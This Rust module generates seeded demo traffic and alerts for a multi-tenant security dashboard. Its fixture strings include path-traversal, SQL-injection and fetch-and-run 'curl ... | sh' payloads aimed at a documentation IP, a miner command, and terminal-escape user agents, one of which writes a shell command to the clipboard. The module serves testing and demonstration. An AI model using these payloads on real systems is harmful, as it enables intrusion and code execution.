//! The demo world: four tenants, their clients and attackers, and a generator of what happens to
//! them (traffic with bursts of brute force, cross-tenant probes, web attacks, runtime alerts and
//! integrity drift). Seeded, so `--seed N` gives the same history every time.

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde_json::json;

use crate::store::access::{flags, AccessEvent};
use crate::store::alerts::{Alert, Priority};
use crate::store::bans::Ban;
use crate::store::integrity::{Change, Run, Target};
use crate::store::tenants::Container;
use crate::store::writer::Write;

pub const TENANTS: [&str; 4] = ["acme", "globex", "initech", "umbrella"];
pub const HOSTNAME: &str = "tenant-host-01";
/// The fingerprint the demo's targets show for their signing key.
const DEMO_KEY: &str = "SHA256:5d41402abc4b2a76b9719d911017c592a1f0e6d3b2c4e5f60718293a4b5c6d7e";
const JAIL_LOGIN: &str = "rampart-login";
const JAIL_SSH: &str = "sshd";

const PATHS: &[&str] = &[
    "/",
    "/index.html",
    "/api/v1/orders",
    "/api/v1/orders/1842",
    "/api/v1/users/me",
    "/static/app.js",
    "/static/site.css",
    "/images/logo.png",
    "/health",
    "/api/v1/cart",
    "/search?q=blue+shoes",
    "/login",
    "/dashboard",
    "/api/v1/invoices?page=2",
    "/favicon.ico",
    "/api/v1/reports/monthly",
];
const USER_AGENTS: &[&str] = &[
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "curl/8.5.0",
    "python-requests/2.32.3",
    "okhttp/4.12.0",
];
const USERS: &[&str] = &["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi"];
const ATTACK_PATHS: &[&str] = &[
    "/../../../../etc/passwd",
    "/search?q=' OR 1=1--",
    "/api/v1/users?id=1 UNION SELECT password FROM users",
    "/cgi-bin/;cat%20/etc/shadow",
    "/.env",
    "/wp-login.php",
    "/.git/config",
    "/?cmd=$(curl%20http://198.51.100.66/x.sh|sh)",
];
const SCANNERS: &[&str] = &[
    "sqlmap/1.8.4#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
];
/// User agents that try to take over the operator's terminal; rampart must show them inert.
const HOSTILE_AGENTS: &[&str] = &[
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 clipboard-writer/1.0",
    "\x1b[2J\x1b[H screen-clearer/0.1",
    "\x1b]0;you have been pwned\x07 title-setter",
    "bidi-trick \u{202E}gnp.exe",
];
/// Falco rules with their usual priorities and an output line.
const RUNTIME_RULES: &[(&str, Priority, &str, &str)] = &[
    (
        "Terminal shell in container",
        Priority::Critical,
        "A shell was spawned in a container with an attached terminal",
        "container,shell,mitre_execution",
    ),
    ("Write below etc", Priority::Error, "File below /etc opened for writing", "filesystem,mitre_persistence"),
    (
        "Read sensitive file untrusted",
        Priority::Warning,
        "Sensitive file opened for reading by non-trusted program",
        "filesystem,mitre_credential_access",
    ),
    (
        "Outbound Connection to C2 Servers",
        Priority::Critical,
        "Outbound connection to C2 server",
        "network,mitre_command_and_control",
    ),
    (
        "Drop and execute new binary in container",
        Priority::Critical,
        "Executing binary not part of base image",
        "container,mitre_persistence",
    ),
    (
        "Packet socket created in container",
        Priority::Notice,
        "Packet socket was created in a container",
        "network,mitre_discovery",
    ),
    (
        "Launch Privileged Container",
        Priority::Informational,
        "Privileged container started",
        "container,cis,mitre_privilege_escalation",
    ),
    ("Clear Log Activities", Priority::Warning, "Log files were tampered", "filesystem,mitre_defense_evasion"),
    (
        "Detect crypto miners using the Stratum protocol",
        Priority::Critical,
        "Possible miner running",
        "process,mitre_impact",
    ),
    (
        "Container Drift Detected (chmod)",
        Priority::Error,
        "Drift detected (chmod), new executable created in a container",
        "container,mitre_execution",
    ),
    (
        "Kernel module loaded from container",
        Priority::Emergency,
        "Linux kernel module injection from container detected",
        "process,mitre_privilege_escalation",
    ),
    ("Unexpected UDP Traffic", Priority::Alert, "Unexpected UDP traffic seen", "network,mitre_exfiltration"),
    ("Syscall rate high", Priority::Debug, "Syscall event rate above the sampling threshold", "performance"),
];

/// One of the demo's tenants, with its network and clients.
#[derive(Debug, Clone)]
pub struct DemoTenant {
    pub name: &'static str,
    /// The tenant's internal network, 10.20+i.0.0/24.
    pub subnet: u8,
    pub clients: Vec<String>,
    pub containers: Vec<Container>,
}

/// What happens next in the demo world; one generator serves both the seed and the simulator.
pub struct Generator {
    rng: StdRng,
    pub tenants: Vec<DemoTenant>,
    /// Pending attack bursts: the events still to come.
    pending: Vec<AccessEvent>,
    /// (attacker ip, tenant, failures, matched lines) of the brute force in progress.
    brute_force: Option<(String, String, i64, Vec<String>)>,
    ban_counts: std::collections::HashMap<String, i64>,
    /// Until when each address is banned in each jail (`None`: for good). Fail2Ban never bans an
    /// address in a jail that holds it already (it cannot fail there again), so neither does the demo.
    banned_until: std::collections::HashMap<(&'static str, String), Option<i64>>,
    /// How much more often than in the seeded history something notable happens.
    pub intensity: f64,
}

impl Generator {
    pub fn new(seed: u64) -> Generator {
        let mut rng = StdRng::seed_from_u64(seed);
        let tenants = TENANTS
            .iter()
            .enumerate()
            .map(|(i, name)| {
                let subnet = 20 + i as u8;
                let clients = (0..24).map(|_| public_ip(&mut rng)).collect();
                let roles: &[(&str, &str)] = match i {
                    0 => &[("web", "nginx:1.27"), ("app", "acme/shop:4.2.1"), ("db", "postgres:16")],
                    1 => &[("web", "nginx:1.27"), ("api", "globex/api:2.9.0"), ("worker", "globex/worker:2.9.0"), ("db", "postgres:16")],
                    2 => &[("app", "initech/tps:1.0.3"), ("cache", "redis:7.4")],
                    _ => &[("web", "caddy:2.8"), ("app", "umbrella/portal:0.9.8"), ("db", "mariadb:11.4")],
                };
                let containers = roles
                    .iter()
                    .enumerate()
                    .map(|(n, (role, image))| {
                        let id: String = (0..64).map(|_| char::from_digit(rng.gen_range(0..16), 16).unwrap_or('0')).collect();
                        let mut networks = vec![json!({ "name": format!("{name}-net"), "ip": format!("10.{subnet}.0.{}", n + 2), "aliases": [role] })];
                        // A leftover from a migration: globex's worker and initech's cache share a network.
                        if (i == 1 && *role == "worker") || (i == 2 && *role == "cache") {
                            networks.push(json!({ "name": "legacy-cache-net", "ip": format!("10.99.0.{}", i + 2), "aliases": [role] }));
                        }
                        let user = if *role == "db" { "postgres" } else if n % 2 == 0 { "" } else { "app" };
                        let posture = json!({
                            "user": user,
                            "runs_as_root": user.is_empty(),
                            "read_only_rootfs": *role == "web",
                            "privileged": i == 3 && *role == "app",
                            "cap_add": if *role == "web" { json!(["NET_BIND_SERVICE"]) } else { json!([]) },
                            "host_network": false,
                            "host_pid": false,
                            "docker_socket": false,
                        });
                        let networks = serde_json::Value::Array(networks);
                        Container {
                            id,
                            tenant: name.to_string(),
                            name: format!("{name}-{role}-1"),
                            image: image.to_string(),
                            state: if i == 2 && *role == "cache" { "exited".into() } else { "running".into() },
                            networks_json: networks.to_string(),
                            posture_json: posture.to_string(),
                        }
                    })
                    .collect();
                DemoTenant { name, subnet, clients, containers }
            })
            .collect();
        Generator {
            rng,
            tenants,
            pending: Vec::new(),
            brute_force: None,
            ban_counts: Default::default(),
            banned_until: Default::default(),
            intensity: 1.0,
        }
    }

    /// The registry writes: tenants, containers and integrity targets.
    pub fn registry(&self) -> Vec<Write> {
        let mut out = Vec::new();
        for t in &self.tenants {
            out.push(Write::Tenant { name: t.name.to_string(), label_selector: format!("rampart.tenant={}", t.name) });
            out.extend(t.containers.iter().cloned().map(Write::Container));
            out.push(Write::IntegrityTarget(Target {
                name: format!("{}-app", t.name),
                tenant: Some(t.name.to_string()),
                root: format!("/srv/tenants/{}/app", t.name),
                manifest_path: format!("/srv/tenants/{}/manifest.json", t.name),
                pubkey_path: "/etc/rampart/baseline.pub".into(),
                key_fingerprint: Some(DEMO_KEY.into()),
                every_ms: Some(3_600_000),
                ..Default::default()
            }));
        }
        out
    }

    /// Everything that happens at `ts`: one access event, and now and then more.
    pub fn step(&mut self, ts: i64, out: &mut Vec<Write>) {
        if let Some(mut e) = self.pending.pop() {
            e.ts = ts;
            self.after_attack_event(&e, out);
            out.push(Write::Access(e));
            return;
        }
        let roll: f64 = self.rng.gen::<f64>() / self.intensity;
        match roll {
            r if r < 0.0010 => self.start_brute_force(ts),
            r if r < 0.0016 => self.start_web_attack(),
            r if r < 0.0020 => self.cross_tenant_probe(ts, out),
            r if r < 0.0028 => self.runtime_alert(ts, out),
            r if r < 0.00285 => self.hostile_agent(ts, out),
            _ => {}
        }
        let e = self.normal_request(ts);
        out.push(Write::Access(e));
    }

    fn tenant(&mut self) -> usize {
        // acme and globex are the busy ones.
        let weights = [0.35, 0.35, 0.15, 0.15];
        let mut r: f64 = self.rng.gen();
        for (i, w) in weights.iter().enumerate() {
            if r < *w {
                return i;
            }
            r -= w;
        }
        0
    }

    fn normal_request(&mut self, ts: i64) -> AccessEvent {
        let t = self.tenant();
        let rng = &mut self.rng;
        let tenant = &self.tenants[t];
        let path = PATHS[rng.gen_range(0..PATHS.len())];
        let status = match rng.gen_range(0..100) {
            0..=84 => 200,
            85..=89 => 304,
            90..=94 => 404,
            95..=96 => 302,
            97 => 403,
            _ => 500,
        };
        let method = if path.starts_with("/api") && rng.gen_bool(0.3) { "POST" } else { "GET" };
        AccessEvent {
            ts,
            tenant: tenant.name.to_string(),
            src_ip: tenant.clients[rng.gen_range(0..tenant.clients.len())].clone(),
            user: rng.gen_bool(0.4).then(|| USERS[rng.gen_range(0..USERS.len())].to_string()),
            method: method.into(),
            path: path.into(),
            status,
            bytes: if status == 304 { 0 } else { rng.gen_range(200..48_000) },
            user_agent: USER_AGENTS[rng.gen_range(0..USER_AGENTS.len())].into(),
            source: "demo".into(),
            ..Default::default()
        }
    }

    /// An attacker's address that `jail` does not hold at `ts`; IPv6 with chance `v6`, and always
    /// once the IPv4 addresses tried are all banned.
    fn unbanned_ip(&mut self, jail: &'static str, ts: i64, v6: f64) -> String {
        for attempt in 0.. {
            let ip = if attempt >= 50 || self.rng.gen_bool(v6) {
                public_ipv6(&mut self.rng)
            } else {
                public_ip(&mut self.rng)
            };
            match self.banned_until.get(&(jail, ip.clone())) {
                Some(None) => {}
                Some(Some(until)) if *until > ts => {}
                _ => return ip,
            }
        }
        unreachable!("an endless loop returns")
    }

    /// Notes a ban, so the address is not banned in its jail again while it lasts.
    fn banned(&mut self, jail: &'static str, ban: &Ban) {
        self.banned_until.insert((jail, ban.ip.clone()), ban.expires_at());
    }

    fn start_brute_force(&mut self, ts: i64) {
        let t = self.tenant();
        let ip = self.unbanned_ip(JAIL_LOGIN, ts, 0.15);
        let tenant = self.tenants[t].name.to_string();
        let attempts = self.rng.gen_range(6..14);
        for _ in 0..attempts {
            let user = ["admin", "root", "test", "alice", "support"][self.rng.gen_range(0..5)];
            self.pending.push(AccessEvent {
                tenant: tenant.clone(),
                src_ip: ip.clone(),
                user: Some(user.into()),
                method: "POST".into(),
                path: "/login".into(),
                status: 401,
                bytes: 312,
                user_agent: "python-requests/2.31.0".into(),
                flags: flags::AUTH_FAILURE,
                source: "demo".into(),
                ..Default::default()
            });
        }
        self.brute_force = Some((ip, tenant, 0, Vec::new()));
    }

    fn start_web_attack(&mut self) {
        let t = self.tenant();
        let ip = public_ip(&mut self.rng);
        let ua = SCANNERS[self.rng.gen_range(0..SCANNERS.len())];
        let tenant = self.tenants[t].name.to_string();
        for path in ATTACK_PATHS.iter().take(self.rng.gen_range(3..ATTACK_PATHS.len())) {
            self.pending.push(AccessEvent {
                tenant: tenant.clone(),
                src_ip: ip.clone(),
                method: "GET".into(),
                path: path.to_string(),
                status: if path.contains("wp-login") { 404 } else { 403 },
                bytes: 162,
                user_agent: ua.into(),
                flags: flags::ATTACK,
                source: "demo".into(),
                ..Default::default()
            });
        }
    }

    /// Alerts and bans that follow from attack traffic as it happens.
    fn after_attack_event(&mut self, e: &AccessEvent, out: &mut Vec<Write>) {
        if e.flags & flags::AUTH_FAILURE != 0 {
            if let Some((ip, tenant, failures, matches)) = self.brute_force.as_mut() {
                *failures += 1;
                matches.push(format!(
                    "{} - {} [{}] \"POST /login HTTP/1.1\" 401 312",
                    e.src_ip,
                    e.user.as_deref().unwrap_or("-"),
                    crate::text::format::timestamp(e.ts)
                ));
                let done = !self.pending.iter().any(|p| p.flags & flags::AUTH_FAILURE != 0);
                if done {
                    let (ip, tenant, failures, matches) = (ip.clone(), tenant.clone(), *failures, matches.clone());
                    self.brute_force = None;
                    out.push(Write::Alert(alert(
                        e.ts,
                        Priority::Warning,
                        "Brute-force login",
                        &tenant,
                        Some(&ip),
                        format!("{failures} failed logins from {ip} on {tenant} /login within 2m"),
                        "rampart",
                        "auth,mitre_credential_access",
                    )));
                    let count = self.ban_counts.entry(ip.clone()).or_insert(0);
                    *count += 1;
                    let ban = Ban {
                        jail: JAIL_LOGIN.into(),
                        ip,
                        banned_at: e.ts,
                        ban_seconds: if *count > 2 { -1 } else { 3600 },
                        ban_count: *count,
                        failures,
                        matches_json: serde_json::to_string(&matches).unwrap_or_default(),
                        source: "fail2ban".into(),
                        tenant: Some(tenant),
                        ..Default::default()
                    };
                    self.banned(JAIL_LOGIN, &ban);
                    out.push(Write::Ban(ban));
                }
            }
        } else if e.flags & flags::ATTACK != 0 && !self.pending.iter().any(|p| p.src_ip == e.src_ip) {
            out.push(Write::Alert(alert(
                e.ts,
                Priority::Warning,
                "Web attack pattern",
                &e.tenant,
                Some(&e.src_ip),
                format!("scanner {} probed {} with attack paths (last: {})", e.src_ip, e.tenant, e.path),
                "rampart",
                "web,mitre_initial_access",
            )));
        }
    }

    fn cross_tenant_probe(&mut self, ts: i64, out: &mut Vec<Write>) {
        let from = self.rng.gen_range(0..self.tenants.len());
        let to = (from + self.rng.gen_range(1..self.tenants.len())) % self.tenants.len();
        let (from_t, to_t) = (&self.tenants[from], &self.tenants[to]);
        let ip = format!("10.{}.0.{}", from_t.subnet, self.rng.gen_range(2..5));
        let path = ["/internal/admin", "/api/v1/users", "/metrics", "/actuator/env"][self.rng.gen_range(0..4)];
        out.push(Write::Access(AccessEvent {
            ts,
            tenant: to_t.name.into(),
            src_ip: ip.clone(),
            method: "GET".into(),
            path: path.into(),
            status: 403,
            bytes: 0,
            user_agent: "curl/7.88.1".into(),
            target_tenant: Some(to_t.name.into()),
            flags: flags::CROSS_TENANT,
            source: "demo".into(),
            ..Default::default()
        }));
        out.push(Write::Alert(alert(
            ts,
            Priority::Critical,
            "Cross-tenant access",
            to_t.name,
            Some(&ip),
            format!("{ip} in {}'s network reached {} {path}", from_t.name, to_t.name),
            "rampart",
            "network,tenancy,mitre_lateral_movement",
        )));
    }

    fn runtime_alert(&mut self, ts: i64, out: &mut Vec<Write>) {
        let (rule, priority, text, tags) = RUNTIME_RULES[self.rng.gen_range(0..RUNTIME_RULES.len())];
        let t = self.rng.gen_range(0..self.tenants.len());
        let tenant = &self.tenants[t];
        let c = &tenant.containers[self.rng.gen_range(0..tenant.containers.len())];
        let cmdline =
            ["bash", "sh -c curl http://198.51.100.66/x.sh | sh", "xmrig --donate-level 1", "cat /etc/shadow"]
                [self.rng.gen_range(0..4)];
        let fields = json!({
            "container.id": &c.id[..12],
            "container.name": c.name,
            "container.image.repository": c.image.split(':').next(),
            "proc.cmdline": cmdline,
            "user.name": "root",
            "evt.time": ts as i128 * 1_000_000,
        });
        out.push(Write::Alert(Alert {
            output_fields_json: fields.to_string(),
            ..alert(
                ts,
                priority,
                rule,
                tenant.name,
                None,
                format!("{text} (user=root container={} image={})", c.name, c.image),
                "syscall",
                tags,
            )
        }));
        if rule == "Container Drift Detected (chmod)" || rule == "Write below etc" {
            out.push(self.drift_run(ts, t));
        }
    }

    fn hostile_agent(&mut self, ts: i64, out: &mut Vec<Write>) {
        let mut e = self.normal_request(ts);
        e.user_agent = HOSTILE_AGENTS[self.rng.gen_range(0..HOSTILE_AGENTS.len())].into();
        e.src_ip = public_ip(&mut self.rng);
        out.push(Write::Access(e));
    }

    /// A verification run of tenant `t`'s target that finds a few changed files.
    pub fn drift_run(&mut self, ts: i64, t: usize) -> Write {
        let name = self.tenants[t].name;
        let files = ["bin/app", "etc/app.conf", "lib/libssl.so.3", "static/index.js", "etc/cron.d/backup"];
        let n = self.rng.gen_range(1..4);
        let changes: Vec<Change> = files
            .iter()
            .take(n)
            .map(|f| {
                let hash = |rng: &mut StdRng| {
                    (0..64).map(|_| char::from_digit(rng.gen_range(0..16), 16).unwrap_or('0')).collect::<String>()
                };
                Change {
                    path: f.to_string(),
                    kind: "changed".into(),
                    before_json: Some(json!({"sha256": hash(&mut self.rng), "size": 18_432}).to_string()),
                    after_json: Some(json!({"sha256": hash(&mut self.rng), "size": 18_996}).to_string()),
                }
            })
            .collect();
        Write::IntegrityRun(
            Run {
                target: format!("{name}-app"),
                started: ts,
                finished: Some(ts + 1_800),
                signature_ok: Some(true),
                checked: 1_204 + 100 * t as i64,
                modified: changes.len() as i64,
                ..Default::default()
            },
            changes,
        )
    }

    /// A clean verification run of tenant `t`'s target.
    pub fn clean_run(&self, ts: i64, t: usize) -> Write {
        Write::IntegrityRun(
            Run {
                target: format!("{}-app", self.tenants[t].name),
                started: ts,
                finished: Some(ts + 1_700),
                signature_ok: Some(true),
                checked: 1_204 + 100 * t as i64,
                ..Default::default()
            },
            vec![],
        )
    }

    /// An SSH brute-forcer banned by Fail2Ban's sshd jail.
    pub fn ssh_ban(&mut self, ts: i64, permanent: bool) -> Write {
        let ip = self.unbanned_ip(JAIL_SSH, ts, 0.2);
        let failures = self.rng.gen_range(5..40);
        let matches: Vec<String> = (0..failures.min(5))
            .map(|i| {
                format!("sshd[{}]: Failed password for invalid user admin from {ip} port {} ssh2", 4000 + i, 40_000 + i)
            })
            .collect();
        let ban = Ban {
            jail: JAIL_SSH.into(),
            ip,
            banned_at: ts,
            ban_seconds: if permanent { -1 } else { 86_400 },
            ban_count: if permanent { 3 } else { 1 },
            failures,
            matches_json: serde_json::to_string(&matches).unwrap_or_default(),
            source: "fail2ban".into(),
            ..Default::default()
        };
        self.banned(JAIL_SSH, &ban);
        Write::Ban(ban)
    }
}

#[allow(clippy::too_many_arguments)]
fn alert(
    ts: i64,
    priority: Priority,
    rule: &str,
    tenant: &str,
    ip: Option<&str>,
    output: String,
    source: &str,
    tags: &str,
) -> Alert {
    Alert {
        id: 0,
        ts,
        priority,
        rule: rule.into(),
        source: source.into(),
        hostname: HOSTNAME.into(),
        tenant: Some(tenant.into()),
        output,
        output_fields_json: json!({ "fd.sip": ip }).to_string(),
        tags: tags.into(),
        src_ip: ip.map(str::to_string),
        acked_by: None,
        acked_at: None,
    }
}

/// An address from the documentation ranges (RFC 5737), so the demo names no real host.
fn public_ip(rng: &mut StdRng) -> String {
    let prefix = ["192.0.2", "198.51.100", "203.0.113"][rng.gen_range(0..3)];
    format!("{prefix}.{}", rng.gen_range(1..255))
}

/// An address from the IPv6 documentation range (RFC 3849).
fn public_ipv6(rng: &mut StdRng) -> String {
    format!("2001:db8:{:x}::{:x}", rng.gen_range(1..0xffff), rng.gen_range(1..0xffff))
}
